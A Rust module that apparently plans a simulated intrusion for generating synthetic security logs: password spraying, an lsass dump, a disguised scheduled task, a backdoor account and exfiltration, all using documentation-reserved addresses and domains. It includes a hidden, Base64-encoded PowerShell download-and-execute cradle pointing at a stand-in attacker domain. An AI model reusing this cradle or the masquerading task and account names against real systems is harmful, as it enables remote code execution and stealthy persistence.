//! The intrusion: who the intruder is, whom they hit and when.
//!
//! [`Intrusion`] is the plan and follows from the seed alone, apart from the company it is made
//! for; `intruder` carries it out in the world. Addresses and names of the intruder come from the
//! ranges reserved for documentation, which ordinary life never touches.

mod intruder;
mod step;

pub(crate) use intruder::Intruder;
pub(crate) use step::Step;

use base64::Engine;
use chrono::{DateTime, TimeDelta, Utc};

use crate::Options;
use crate::calendar::is_working_day;
use crate::company::names::{ELSEWHERE, Town};
use crate::company::{Account, Company, Host, Job, Role};
use crate::dice::Dice;
use crate::programs::Program;

/// Words that domains of the intruder, and of the feed's decoys, are made of.
pub(crate) const DOMAIN_WORDS: &[&str] = &[
    "amber", "anchor", "breeze", "cedar", "cobalt", "copper", "coral", "crystal", "delta", "ember",
    "falcon", "fern", "granite", "harbor", "hazel", "indigo", "ivory", "juniper", "lagoon",
    "lunar", "maple", "marble", "meadow", "nimbus", "opal", "orchid", "pebble", "quartz", "raven",
    "saffron", "silver", "solar", "spruce", "summit", "thistle", "timber", "topaz", "velvet",
    "willow", "zephyr",
];

/// The domains reserved for documentation.
pub(crate) const EXAMPLE_DOMAINS: &[&str] = &["example.net", "example.com", "example.org"];

/// The plan.
#[derive(Debug)]
pub(crate) struct Intrusion {
    /// Where the passwords are sprayed from, in 203.0.113.0/24.
    pub(crate) spray_address: String,
    /// Where that address appears to be.
    pub(crate) town: &'static Town,
    /// The command-and-control server, in 198.51.100.0/24.
    pub(crate) control_address: String,
    pub(crate) control_domain: String,
    /// Where the script is fetched from.
    pub(crate) payload_url: String,
    /// Places in `Company::people`; the victim is one of them.
    sprayed: Vec<usize>,
    /// The place in `Company::people`.
    victim: usize,
    /// The place in `Company::services` of the account whose password is dumped.
    service: usize,
    /// Places in `Company::hosts`: the victim's workstation, then two servers.
    hosts: [usize; 3],
    pub(crate) task_name: String,
    pub(crate) new_user: String,
    new_user_sid: String,
    /// The tool that copies the data out.
    pub(crate) uploader: Program,
    /// The address that the VPN gives the intruder.
    tunnel: String,
    /// The name of the intruder's own computer.
    client: String,
    /// The file that the memory of `lsass.exe` is dumped into.
    dump: String,
    start: DateTime<Utc>,
}

impl Intrusion {
    /// The plan against `company`.
    pub(crate) fn plan(options: &Options, company: &Company) -> Self {
        let mut dice = Dice::new(options.seed, "intrusion");
        let word = |dice: &mut Dice| *dice.pick(DOMAIN_WORDS);
        let (first, second) = (word(&mut dice), word(&mut dice));
        let control_domain = format!("{first}-{second}.{}", dice.pick(EXAMPLE_DOMAINS));
        let payload_url = format!("https://{control_domain}/{}/{}.ps1", dice.word(6), dice.word(8));
        let spray_address = format!("203.0.113.{}", dice.between(2, 250));
        let control_address = format!("198.51.100.{}", dice.between(2, 250));
        let targets = dice.between(44, 60) as usize;
        let sprayed = dice.sample(company.people.len(), targets);
        let employees: Vec<usize> = sprayed
            .iter()
            .copied()
            .filter(|&person| company.people[person].job == Job::Employee)
            .collect();
        let victim = *dice.pick(&employees);
        // svc-backup, svc-sql or svc-deploy: accounts that other servers trust.
        let service = *dice.pick(&[0, 0, 1, 4]);
        let application = dice.pick(company.of_role(Role::Application));
        let files = dice.pick(company.of_role(Role::Files));
        let tool = dice.word(7);
        let task = *dice.pick(&[
            "CacheTask",
            "SyncHost",
            "TelemetryCheck",
            "UpdateAssist",
            "LicenseProbe",
        ]);
        let task_name = format!(r"\Microsoft\Windows\{task}{}", dice.between(10, 99));
        let user = *dice.pick(&["support", "helpadm", "svc_print", "maint", "itadmin"]);
        Self {
            town: dice.pick(ELSEWHERE),
            new_user: format!("{user}{:02}", dice.between(1, 99)),
            new_user_sid: format!(
                "S-1-5-21-{}-{}-{}-1007",
                dice.between(1_000_000_000, 4_200_000_000),
                dice.between(1_000_000_000, 4_200_000_000),
                dice.between(1_000_000_000, 4_200_000_000)
            ),
            uploader: Program {
                path: format!(r"C:\ProgramData\{}\{tool}.exe", dice.word(5)).into(),
                file_name: format!("{tool}.exe").into(),
                company: "",
                description: "",
                version: "",
            },
            tunnel: format!("10.250.{}.{}", dice.between(20, 60), dice.between(2, 250)),
            client: format!("DESKTOP-{}", dice.word(7).to_uppercase()),
            dump: format!(r"C:\Windows\Temp\{}.dmp", dice.word(6)),
            start: choose_start(&mut dice, options),
            spray_address,
            control_address,
            control_domain,
            payload_url,
            sprayed,
            victim,
            service,
            hosts: [victim, application.index, files.index],
            task_name,
        }
    }

    /// The account of the person whose password was guessed.
    pub(crate) fn victim<'c>(&self, company: &'c Company) -> &'c Account {
        &company.people[self.victim].account
    }

    /// The service account whose password was dumped.
    pub(crate) fn service<'c>(&self, company: &'c Company) -> &'c Account {
        &company.services[self.service].account
    }

    /// The hosts that were taken, in that order.
    pub(crate) fn hosts<'c>(&self, company: &'c Company) -> [&'c Host; 3] {
        self.hosts.map(|index| &company.hosts[index])
    }

    /// When `step` begins.
    pub(crate) fn time(&self, step: Step) -> DateTime<Utc> {
        self.start + TimeDelta::seconds(step.seconds_from_start())
    }

    /// The script that the encoded command decodes to.
    pub(crate) fn script(&self) -> String {
        format!(
            "$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','Mozilla/5.0');IEX $w.DownloadString('{}')",
            self.payload_url
        )
    }

    /// The command line of the encoded PowerShell: Base64 of the script in UTF-16LE.
    pub(crate) fn encoded_command_line(&self) -> String {
        let bytes: Vec<u8> = self.script().encode_utf16().flat_map(u16::to_le_bytes).collect();
        let encoded = base64::engine::general_purpose::STANDARD.encode(bytes);
        format!("powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {encoded}")
    }
}

/// About a quarter to seven on one of the last working days that lie wholly in the range; without
/// such a day, as early as leaves time for every step.
fn choose_start(dice: &mut Dice, options: &Options) -> DateTime<Utc> {
    let ticks = dice.between((6 * 3600 + 2400) * 10_000_000, 7 * 3600 * 10_000_000);
    let morning = TimeDelta::nanoseconds(100 * ticks as i64);
    let candidates: Vec<DateTime<Utc>> = (1..=i64::from(options.days))
        .map(|days_back| {
            let midnight = options.end - TimeDelta::days(days_back);
            midnight.date_naive().and_time(chrono::NaiveTime::MIN).and_utc()
        })
        .filter(|&midnight| is_working_day(midnight) && midnight >= options.start())
        .filter(|&midnight| midnight + TimeDelta::days(1) <= options.end)
        .take(4)
        .collect();
    if candidates.is_empty() {
        options.start() + TimeDelta::minutes(30)
    } else {
        *dice.pick(&candidates) + morning
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn plan(seed: u64) -> (Intrusion, Company) {
        let options = Options { seed, ..Options::default() };
        let company = Company::found(seed, options.rows);
        (Intrusion::plan(&options, &company), company)
    }

    #[test]
    fn plans_of_different_seeds_differ_in_every_value() {
        let ((one, company), (other, _)) = (plan(1), plan(2));
        assert_ne!(one.spray_address, other.spray_address);
        assert_ne!(one.control_address, other.control_address);
        assert_ne!(one.control_domain, other.control_domain);
        assert_ne!(one.victim(&company).upn, other.victim(&company).upn);
        assert_ne!(one.hosts[0], other.hosts[0]);
    }

    #[test]
    fn seed_seven_has_the_same_intruder_on_every_machine() {
        let (plan, company) = plan(7);
        assert_eq!(plan.spray_address, "203.0.113.195");
        assert_eq!(plan.control_address, "198.51.100.132");
        assert_eq!(plan.control_domain, "lunar-zephyr.example.net");
        assert_eq!(plan.victim(&company).nt, r"CONTOSO\kamala.wilde");
        assert_eq!(plan.hosts(&company).map(|host| host.name.as_str())[0], "WS-0020");
    }

    #[test]
    fn the_encoded_command_decodes_to_the_script() {
        let (plan, _) = plan(7);
        let line = plan.encoded_command_line();
        let encoded = line.rsplit(' ').next().unwrap();
        let bytes = base64::engine::general_purpose::STANDARD.decode(encoded).unwrap();
        let units: Vec<u16> =
            bytes.chunks(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]])).collect();
        let script = String::from_utf16(&units).unwrap();
        assert!(script.contains(&plan.payload_url));
        assert!(plan.payload_url.starts_with(&format!("https://{}/", plan.control_domain)));
    }

    #[test]
    fn the_intrusion_fits_into_ranges_without_a_whole_working_day() {
        for hours in 0..48 {
            let end = DateTime::from_timestamp(1_795_132_800 + 3600 * hours, 0).unwrap();
            let options = Options { end, days: 1, ..Options::default() };
            let company = Company::found(7, 0);
            let plan = Intrusion::plan(&options, &company);
            assert!(plan.time(Step::PasswordSpray) >= options.start());
            assert!(plan.time(Step::Exfiltration) + TimeDelta::hours(3) <= options.end);
        }
    }
}
